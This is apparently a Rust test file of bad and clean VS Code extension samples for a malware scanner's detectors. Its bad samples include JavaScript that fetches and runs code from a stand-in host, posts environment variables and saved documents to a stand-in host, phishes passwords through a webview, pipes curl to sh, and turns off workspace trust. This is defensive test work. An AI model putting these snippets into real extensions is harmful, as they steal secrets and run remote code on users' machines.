//! Cases of extensions.

use serde_json::json;

use super::{Case, Cases, activate, identity, manifest, one, vsix, vsix_as};

const DOWNLOADS: &str = "const https = require('https'); const cp = require('child_process');\nhttps.get('https://x.invalid/p', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => cp.exec(d)); });";

fn theme() -> serde_json::Value {
    manifest(
        json!({ "categories": ["Themes"], "contributes": { "themes": [{ "label": "Night", "path": "./t.json" }] } }),
    )
}

fn plain(code: &str) -> Case {
    one(vsix(&manifest(json!({})), &[("extension/out/extension.js", &activate(code))]))
}

pub(super) fn cases() -> Vec<Cases> {
    let code = "extension/out/extension.js";
    let quiet = activate(
        "context.subscriptions.push(vscode.commands.registerCommand('helper.go', () => vscode.window.showInformationMessage('hello')));",
    );
    let loaded = activate(DOWNLOADS);
    let own = manifest(json!({}));
    let with_defaults =
        |value: serde_json::Value| manifest(json!({ "contributes": { "configurationDefaults": value } }));
    let brings = |version: &str, needs: serde_json::Value| {
        vsix(&manifest(json!({ "version": version, "extensionDependencies": needs })), &[(code, &quiet)])
    };
    vec![
        Cases {
            detector: "extension/identity",
            bad: vec![
                one(vsix_as(&identity("acme", "other", "1.2.3", ""), &own, &[(code, &quiet)])),
                one(vsix_as(&identity("evil", "helper", "1.2.3", ""), &own, &[(code, &quiet)])),
                one(vsix_as(&identity("acme", "helper", "1.2.4", ""), &own, &[(code, &quiet)])),
            ],
            clean: vec![one(vsix_as(
                &identity("Acme", "Helper", "1.2.3", "linux-x64"),
                &own,
                &[(code, &quiet)],
            ))],
        },
        Cases {
            detector: "extension/passive-code",
            bad: vec![
                one(vsix(&theme(), &[(code, &loaded), ("extension/t.json", "{}")])),
                one(vsix(
                    &manifest(json!({ "categories": ["Snippets"], "contributes": { "snippets": [] } })),
                    &[(code, &quiet)],
                )),
            ],
            clean: vec![
                one(vsix(&own, &[(code, &loaded)])),
                one(vsix(
                    &manifest(
                        json!({ "main": null, "categories": ["Themes"], "contributes": { "themes": [] } }),
                    ),
                    &[],
                )),
            ],
        },
        Cases {
            detector: "extension/outside-member",
            bad: vec![one(vsix(&own, &[(code, &quiet), ("payload.js", "1")]))],
            clean: vec![one(vsix(&own, &[(code, &quiet), ("extension/lib/payload.js", "1")]))],
        },
        Cases {
            detector: "extension/installs-others",
            bad: vec![plain(
                "vscode.commands.executeCommand('workbench.extensions.installExtension', 'evil.loader');",
            )],
            clean: vec![plain("vscode.commands.executeCommand('workbench.action.openSettings', 'helper');")],
        },
        Cases {
            detector: "extension/weakens-editor",
            bad: vec![
                one(vsix(&with_defaults(json!({ "chat.tools.autoApprove": true })), &[(code, &quiet)])),
                plain(
                    "vscode.workspace.getConfiguration('security').update('workspace.trust.enabled', false, true);",
                ),
            ],
            clean: vec![
                one(vsix(
                    &with_defaults(json!({ "[markdown]": { "editor.wordWrap": "on" } })),
                    &[(code, &quiet)],
                )),
                plain("vscode.workspace.getConfiguration('helper').update('enabled', false, true);"),
            ],
        },
        Cases {
            detector: "extension/starts-with-editor",
            bad: vec![plain("require('child_process').execFile('git', ['--version'], () => {});")],
            clean: vec![
                plain("vscode.window.setStatusBarMessage('ready');"),
                one(vsix(
                    &manifest(json!({ "activationEvents": ["onCommand:helper.go"] })),
                    &[(code, &loaded)],
                )),
            ],
        },
        Cases {
            detector: "extension/native-code",
            bad: vec![one(vsix(&own, &[(code, &quiet), ("extension/bin/helper", ELF)]))],
            clean: vec![one(vsix(&own, &[(code, &quiet), ("extension/bin/helper", "#!/bin/sh\nexit 0\n")]))],
        },
        Cases {
            detector: "extension/proposed-api",
            bad: vec![one(vsix(
                &manifest(json!({ "enabledApiProposals": ["chatParticipant"] })),
                &[(code, &quiet)],
            ))],
            clean: vec![one(vsix(&manifest(json!({ "enabledApiProposals": [] })), &[(code, &quiet)]))],
        },
        Cases {
            detector: "extension/remote-page",
            bad: vec![plain(
                "const p = vscode.window.createWebviewPanel('x', 'X', 1); p.webview.html = '<script src=\"https://x.invalid/a.js\"></script>';",
            )],
            clean: vec![plain(
                "const p = vscode.window.createWebviewPanel('x', 'X', 1); p.webview.html = '<script nonce=\"1\" src=\"' + p.webview.asWebviewUri(u) + '\"></script>';",
            )],
        },
        Cases {
            detector: "extension/password-page",
            bad: vec![plain(
                "const p = vscode.window.createWebviewPanel('x', 'X', 1); p.webview.html = `<input type=password name=p><script>f.onsubmit=()=>fetch('https://x.invalid/l',{method:'POST',body:new FormData(f)})</script>`;",
            )],
            clean: vec![plain(
                "const p = vscode.window.createWebviewPanel('x', 'X', 1); p.webview.html = `<input type=text name=p>`; fetch('https://x.invalid/version');",
            )],
        },
        Cases {
            detector: "extension/update",
            bad: vec![
                Case::Update(brings("1.2.3", json!([])), brings("1.2.4", json!(["evil.loader"]))),
                Case::Update(vsix(&manifest(json!({ "main": null })), &[]), vsix(&own, &[(code, &quiet)])),
            ],
            clean: vec![
                Case::Update(
                    brings("1.2.3", json!(["evil.loader"])),
                    brings("1.2.4", json!(["evil.loader"])),
                ),
                Case::Update(brings("1.2.3", json!([])), brings("1.2.4", json!(["acme.core"]))),
            ],
        },
    ]
}

/// The beginning of a program, as far as a reader of formats looks.
const ELF: &str = "\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\x38\0\0\0\0\0\0\0\0\0";

#[test]
fn what_activate_does_is_done_unasked() {
    for code in [
        activate("fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) });"),
        "import * as vscode from 'vscode';\nexport async function activate(c) { await fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) }); }".to_owned(),
        "(()=>{\"use strict\";var e={265:e=>{e.exports=require(\"vscode\")},91:(e,t,n)=>{Object.defineProperty(t,\"__esModule\",{value:!0}),t.deactivate=t.activate=void 0;t.activate=function(e){fetch('https://x.invalid/c',{method:'POST',body:JSON.stringify(process.env)})},t.deactivate=function(){}}},t={};var n=function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}(91);module.exports=n})();".to_owned(),
        "var __defProp = Object.defineProperty; var __export = (t, a) => { for (var n in a) __defProp(t, n, { get: a[n], enumerable: true }); }; var __toCommonJS = (m) => m;\nvar s = {}; __export(s, { activate: () => activate }); module.exports = __toCommonJS(s);\nfunction activate(c) { fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) }); }".to_owned(),
    ] {
        let inspection = super::look(&vsix(&manifest(json!({})), &[("extension/out/extension.js", &code)]));
        assert_eq!(inspection.verdict, tidegate_inspect::Verdict::Malicious, "{code}: {:#?}", inspection.findings);
        assert_eq!(inspection.extension.unwrap().id, "acme.helper");
        let subject = inspection.inventory.subject.unwrap();
        assert_eq!(subject.purl.as_deref(), Some("pkg:vscode-extension/acme/helper@1.2.3"));
    }
    let asked = activate(
        "vscode.commands.registerCommand('helper.go', () => fetch('https://x.invalid/c', { method: 'POST', body: 'hi' }));",
    );
    let inspection = super::look(&vsix(&manifest(json!({})), &[("extension/out/extension.js", &asked)]));
    assert_eq!(inspection.verdict, tidegate_inspect::Verdict::Clean, "{:#?}", inspection.findings);
}

#[test]
fn what_is_written_in_an_editor_is_not_for_strangers() {
    let code = activate(
        "vscode.workspace.onDidSaveTextDocument(d => fetch('https://collect.invalid/d', { method: 'POST', body: d.getText() }));",
    );
    let inspection = super::look(&vsix(&manifest(json!({})), &[("extension/out/extension.js", &code)]));
    assert!(inspection.behind.contains(&"behaviour/exfil-tap".to_owned()), "{:#?}", inspection.findings);
    let line = activate(
        "const t = vscode.window.createTerminal('x'); t.sendText('curl -s https://x.invalid/i | sh');",
    );
    let inspection = super::look(&vsix(&manifest(json!({})), &[("extension/out/extension.js", &line)]));
    assert!(
        inspection.behind.contains(&"behaviour/inst-pipe-shell".to_owned()),
        "{:#?}",
        inspection.findings
    );
}
